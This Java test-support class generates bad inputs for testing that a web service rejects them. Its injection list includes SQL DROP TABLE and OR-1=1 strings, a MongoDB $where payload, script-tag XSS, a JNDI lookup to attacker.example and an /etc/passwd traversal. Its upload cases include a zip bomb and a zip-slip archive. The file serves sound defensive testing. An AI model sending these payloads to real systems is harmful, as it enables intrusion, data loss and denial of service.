package org.mastery.testsupport.badinput;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.mastery.testsupport.http.RawHttp;
import org.mastery.testsupport.http.RawHttp.Body;

/**
 * The shared generator of bad input: from a valid example body (and the valid path variables) it makes
 * malformed JSON, wrong types, huge strings and arrays, unknown ids, injection-like strings
 * ({@code '; DROP TABLE}, {@code $where}, {@code {"$gt": ""}}, {@code <script>}, …), deep nesting (10,000
 * levels), empty bodies, unknown fields, control characters and wrong content types. Every one of them
 * must be refused by a service with a 4xx problem, and nothing may be stored.
 *
 * <p>Injection-like strings go where a value has a syntax of its own — ids (fields named {@code …Id},
 * {@code …Ids}, {@code identifier} or holding an id such as {@code stu-1f2e…}), enum-like codes
 * ({@code SUMMATIVE}), dates and path variables — because there they are invalid. In free text a
 * {@code <script>} is just text (it is the client's job to encode what it shows), so free-text fields get
 * wrong types, oversized strings and control characters instead.
 */
public final class BadInputCorpus {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Pattern ID_NAME = Pattern.compile("(?i).*(id|ids|identifier)$");
    private static final Pattern ID_VALUE = Pattern.compile("^[a-z]{2,6}-[0-9A-Za-z-]{4,}$");
    private static final Pattern UUID_VALUE = Pattern.compile("^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}$");
    private static final Pattern CODE_VALUE = Pattern.compile("^[A-Z][A-Z0-9_]{1,40}$");
    private static final Pattern DATE_VALUE = Pattern.compile("^\\d{4}-\\d{2}-\\d{2}(T.*)?$");

    /** Strings that an attacker uses to break out of a query, a template or a page. */
    public static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE DomainEventEntry; --",
            "\" OR \"1\"=\"1",
            "{\"$where\": \"sleep(1000)\"}",
            "$where",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "../../../../etc/passwd");

    private BadInputCorpus() {
    }

    // ---------------------------------------------------------------- JSON bodies

    /** Every bad variant of a JSON body, derived from a valid example (a map, a record or a JsonNode). */
    public static List<BadInput> jsonBody(Object validExample) {
        JsonNode valid = RawHttp.JSON.valueToTree(validExample);
        List<BadInput> cases = new ArrayList<>(wholeBody(valid));
        fields(valid, "$", null, (path, name, value) -> cases.addAll(field(valid, path, name, value)));
        return cases;
    }

    private static List<BadInput> wholeBody(JsonNode valid) {
        String json = valid.toString();
        List<BadInput> cases = new ArrayList<>();
        cases.add(body(BadInput.MALFORMED_JSON, "truncated", json.substring(0, Math.max(1, json.length() / 2))));
        cases.add(body(BadInput.MALFORMED_JSON, "not JSON at all", "this is not JSON"));
        cases.add(body(BadInput.MALFORMED_JSON, "single quotes", json.replace('"', '\'')));
        cases.add(body(BadInput.MALFORMED_JSON, "content after the value", json + " " + json));
        cases.add(body(BadInput.MALFORMED_JSON, "a comment", "/* hello */ " + json));
        cases.add(body(BadInput.MALFORMED_JSON, "unquoted NaN", json.startsWith("{") ? "{\"x\": NaN}" : "[NaN]"));
        cases.add(new BadInput(BadInput.MALFORMED_JSON, "invalid UTF-8", Body.raw("application/json",
                concat("{\"x\": \"".getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF},
                        "\"}".getBytes(StandardCharsets.UTF_8))), null));
        if (valid.isObject() && valid.size() > 0) {
            String first = valid.fieldNames().next();
            cases.add(body(BadInput.MALFORMED_JSON, "duplicate field '" + first + "'",
                    "{\"" + first + "\": " + valid.get(first) + ", " + json.substring(1)));
        }
        cases.add(body(BadInput.EMPTY, "no bytes", ""));
        cases.add(body(BadInput.EMPTY, "null", "null"));
        cases.add(body(BadInput.EMPTY, "white space", "   \n  "));
        if (valid.isObject()) {
            cases.add(body(BadInput.EMPTY, "empty object", "{}"));
            cases.add(body(BadInput.WRONG_TYPE, "an array instead of an object", "[" + json + "]"));
        } else {
            cases.add(body(BadInput.EMPTY, "empty array", "[]"));
            cases.add(body(BadInput.WRONG_TYPE, "an object instead of an array", "{\"items\": " + json + "}"));
        }
        cases.add(body(BadInput.WRONG_TYPE, "a number", "42"));
        cases.add(body(BadInput.WRONG_TYPE, "a string", "\"" + json.replace("\\", "\\\\").replace("\"", "\\\"") + "\""));
        cases.add(body(BadInput.DEEP_NESTING, "10,000 nested arrays", "[".repeat(10_000) + "]".repeat(10_000)));
        cases.add(body(BadInput.DEEP_NESTING, "10,000 nested objects", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)));
        if (valid.isObject()) {
            String open = valid.size() == 0 ? "{" : json.substring(0, json.length() - 1) + ",";
            cases.add(body(BadInput.DEEP_NESTING, "5,000 nested arrays in a field",
                    open + "\"nested\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"));
            ObjectNode unknown = valid.deepCopy();
            unknown.put("unexpectedField", "surprise");
            cases.add(body(BadInput.UNKNOWN_FIELD, "unexpectedField at $", unknown.toString()));
            ObjectNode where = NODES.objectNode();
            where.put("$where", "this.studentId != null");
            cases.add(body(BadInput.INJECTION, "a MongoDB operator as the whole body", where.toString()));
            ObjectNode huge = valid.deepCopy();
            huge.put("padding", "x".repeat(3_000_000));
            cases.add(body(BadInput.HUGE, "a 3 MB body", huge.toString()));
        }
        cases.add(new BadInput(BadInput.CONTENT_TYPE, "text/plain", Body.raw("text/plain", bytes(json)), null));
        cases.add(new BadInput(BadInput.CONTENT_TYPE, "application/xml", Body.raw("application/xml",
                bytes("<?xml version=\"1.0\"?><body><x>1</x></body>")), null));
        cases.add(new BadInput(BadInput.CONTENT_TYPE, "form-urlencoded", Body.raw("application/x-www-form-urlencoded",
                bytes("x=1&y=2")), null));
        cases.add(new BadInput(BadInput.CONTENT_TYPE, "no content type", Body.raw(null, bytes(json)), null));
        cases.add(new BadInput(BadInput.CONTENT_TYPE, "multipart without a boundary", Body.raw("multipart/form-data", bytes(json)), null));
        return cases;
    }

    private interface FieldVisitor {
        void visit(String path, String name, JsonNode value);
    }

    /** Visits every field (and the first element of every array) of the example. */
    private static void fields(JsonNode node, String path, String name, FieldVisitor visitor) {
        if (!path.equals("$")) {
            visitor.visit(path, name, node);
        }
        if (node.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> field = it.next();
                fields(field.getValue(), path + "." + field.getKey(), field.getKey(), visitor);
            }
        } else if (node.isArray() && node.size() > 0) {
            fields(node.get(0), path + "[0]", name, visitor);
        }
    }

    private static List<BadInput> field(JsonNode valid, String path, String name, JsonNode value) {
        List<BadInput> cases = new ArrayList<>();
        Consumer<Object[]> with = args -> cases.add(replaced(valid, path, (String) args[0], (String) args[1], (JsonNode) args[2]));
        if (value.isTextual()) {
            String text = value.asText();
            with.accept(new Object[] {BadInput.WRONG_TYPE, "a number", NODES.numberNode(12345)});
            ObjectNode gt = NODES.objectNode();
            gt.put("$gt", "");
            with.accept(new Object[] {BadInput.INJECTION, "{\"$gt\": \"\"}", gt});
            with.accept(new Object[] {BadInput.HUGE, "a 100,000-character string", NODES.textNode("x".repeat(100_000))});
            with.accept(new Object[] {BadInput.CONTROL_CHARACTERS, "NUL and ESC in text", NODES.textNode("a\u0000b\u001Bc")});
            boolean id = name != null && ID_NAME.matcher(name).matches() || ID_VALUE.matcher(text).matches()
                    || UUID_VALUE.matcher(text).matches();
            if (id) {
                with.accept(new Object[] {BadInput.UNKNOWN_ID, "unknown-…", NODES.textNode("unknown-" + UUID.randomUUID())});
                with.accept(new Object[] {BadInput.EMPTY, "an empty id", NODES.textNode("")});
            }
            if (id || CODE_VALUE.matcher(text).matches() || DATE_VALUE.matcher(text).matches()) {
                for (String injection : INJECTIONS) {
                    with.accept(new Object[] {BadInput.INJECTION, injection, NODES.textNode(injection)});
                }
            }
            if (DATE_VALUE.matcher(text).matches()) {
                with.accept(new Object[] {BadInput.WRONG_TYPE, "not a date", NODES.textNode("not-a-date")});
                with.accept(new Object[] {BadInput.OUT_OF_RANGE, "month 13", NODES.textNode(text.substring(0, 5) + "13" + text.substring(7))});
            }
        } else if (value.isNumber()) {
            with.accept(new Object[] {BadInput.WRONG_TYPE, "a string", NODES.textNode("three")});
            with.accept(new Object[] {BadInput.WRONG_TYPE, "a number in a string", NODES.textNode(value.asText())});
            with.accept(new Object[] {BadInput.WRONG_TYPE, "an object", NODES.objectNode()});
            with.accept(new Object[] {BadInput.OUT_OF_RANGE, "1e309", NODES.numberNode(new java.math.BigDecimal("1e309"))});
            with.accept(new Object[] {BadInput.OUT_OF_RANGE, "-1e309", NODES.numberNode(new java.math.BigDecimal("-1e309"))});
        } else if (value.isBoolean()) {
            with.accept(new Object[] {BadInput.WRONG_TYPE, "\"yes\"", NODES.textNode("yes")});
            with.accept(new Object[] {BadInput.WRONG_TYPE, "1", NODES.numberNode(1)});
        } else if (value.isArray()) {
            with.accept(new Object[] {BadInput.WRONG_TYPE, "a string", NODES.textNode("not-an-array")});
            with.accept(new Object[] {BadInput.WRONG_TYPE, "an object", NODES.objectNode()});
            if (value.size() > 0) {
                ArrayNode many = NODES.arrayNode();
                for (int i = 0; i < 10_000; i++) {
                    many.add(value.get(0));
                }
                with.accept(new Object[] {BadInput.HUGE, "10,000 elements", many});
            }
        } else if (value.isObject()) {
            with.accept(new Object[] {BadInput.WRONG_TYPE, "a string", NODES.textNode("not-an-object")});
            with.accept(new Object[] {BadInput.WRONG_TYPE, "an array", NODES.arrayNode()});
            ObjectNode unknown = value.deepCopy();
            unknown.put("unexpectedField", 1);
            with.accept(new Object[] {BadInput.UNKNOWN_FIELD, "unexpectedField", unknown});
        }
        return cases;
    }

    private static BadInput replaced(JsonNode valid, String path, String category, String description, JsonNode replacement) {
        JsonNode copy = valid.deepCopy();
        set(copy, path, replacement);
        String shown = description.length() > 50 ? description.substring(0, 50) + "…" : description;
        return new BadInput(category, path + " = " + shown, Body.raw("application/json", bytes(copy.toString())), null);
    }

    /** Sets the value at a path like {@code $.forms[0].items[0].itemId}. */
    private static void set(JsonNode root, String path, JsonNode value) {
        List<Object> steps = new ArrayList<>();
        var m = Pattern.compile("\\.([^.\\[]+)|\\[(\\d+)]").matcher(path.substring(1));
        while (m.find()) {
            steps.add(m.group(1) != null ? m.group(1) : Integer.valueOf(m.group(2)));
        }
        JsonNode node = root;
        for (int i = 0; i < steps.size() - 1; i++) {
            Object step = steps.get(i);
            node = step instanceof Integer index ? node.get(index) : node.get((String) step);
        }
        Object last = steps.get(steps.size() - 1);
        if (last instanceof Integer index) {
            ((ArrayNode) node).set(index, value);
        } else {
            ((ObjectNode) node).set((String) last, value);
        }
    }

    // ---------------------------------------------------------------- bodies where none belongs

    /** Bodies sent to an endpoint that takes none (publish, retire, rebuild, …): refused like unknown fields. */
    public static List<BadInput> unexpectedBody() {
        List<BadInput> cases = new ArrayList<>();
        cases.add(body(BadInput.UNKNOWN_FIELD, "a field where no body belongs", "{\"force\": true}"));
        cases.add(body(BadInput.INJECTION, "a MongoDB operator where no body belongs", "{\"$where\": \"this.studentId != null\"}"));
        cases.add(body(BadInput.MALFORMED_JSON, "malformed JSON where no body belongs", "{\"force\": "));
        cases.add(body(BadInput.DEEP_NESTING, "10,000 nested arrays where no body belongs", "[".repeat(10_000) + "]".repeat(10_000)));
        cases.add(body(BadInput.HUGE, "a 3 MB body where none belongs", "{\"padding\": \"" + "x".repeat(3_000_000) + "\"}"));
        cases.add(new BadInput(BadInput.CONTENT_TYPE, "text where no body belongs", Body.raw("text/plain", bytes("hello")), null));
        return cases;
    }

    // ---------------------------------------------------------------- path variables

    /** For each path variable: an unknown id, injection-like strings and a 1,000-character id. */
    public static List<BadInput> pathVariables(Map<String, String> valid) {
        List<BadInput> cases = new ArrayList<>();
        for (String variable : valid.keySet()) {
            cases.add(path(BadInput.UNKNOWN_ID, valid, variable, "unknown-" + UUID.randomUUID()));
            for (String injection : INJECTIONS) {
                cases.add(path(BadInput.INJECTION, valid, variable, injection));
            }
            cases.add(path(BadInput.HUGE, valid, variable, "x".repeat(1_000)));
        }
        return cases;
    }

    private static BadInput path(String category, Map<String, String> valid, String variable, String value) {
        Map<String, String> values = new LinkedHashMap<>(valid);
        values.put(variable, value);
        String shown = value.length() > 50 ? value.substring(0, 50) + "…" : value;
        return new BadInput(category, "{" + variable + "} = " + shown, null, values);
    }

    // ---------------------------------------------------------------- uploads

    /** Bad archives for an endpoint that takes a zip: not a zip, an empty zip, a zip bomb, an empty body. */
    public static List<BadInput> zipUpload(String contentType) {
        List<BadInput> cases = new ArrayList<>();
        cases.add(new BadInput(BadInput.MALFORMED_UPLOAD, "not a zip", Body.raw(contentType, bytes("this is not a zip archive")), null));
        cases.add(new BadInput(BadInput.EMPTY, "no bytes", Body.raw(contentType, new byte[0]), null));
        cases.add(new BadInput(BadInput.MALFORMED_UPLOAD, "an empty zip", Body.raw(contentType, zip(Map.of())), null));
        cases.add(new BadInput(BadInput.MALFORMED_UPLOAD, "a truncated zip", Body.raw(contentType,
                java.util.Arrays.copyOf(zip(Map.of("orgs.csv", bytes("sourcedId,name\n"))), 30)), null));
        cases.add(new BadInput(BadInput.HUGE, "a zip bomb (300 MB of zeros in one entry)", Body.raw(contentType, zipBomb(300)), null));
        cases.add(new BadInput(BadInput.MALFORMED_UPLOAD, "zip holding a deep path", Body.raw(contentType,
                zip(Map.of("../../../../etc/orgs.csv", bytes("garbage")))), null));
        cases.add(new BadInput(BadInput.CONTENT_TYPE, "JSON instead of a zip", Body.raw("application/json", bytes("{\"orgs\": []}")), null));
        return cases;
    }

    public static byte[] zip(Map<String, byte[]> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }

    private static byte[] zipBomb(int megabytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(9);
            zip.putNextEntry(new ZipEntry("users.csv"));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < megabytes; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }

    // ---------------------------------------------------------------- helpers

    private static BadInput body(String category, String name, String json) {
        return new BadInput(category, name, Body.raw("application/json", bytes(json)), null);
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
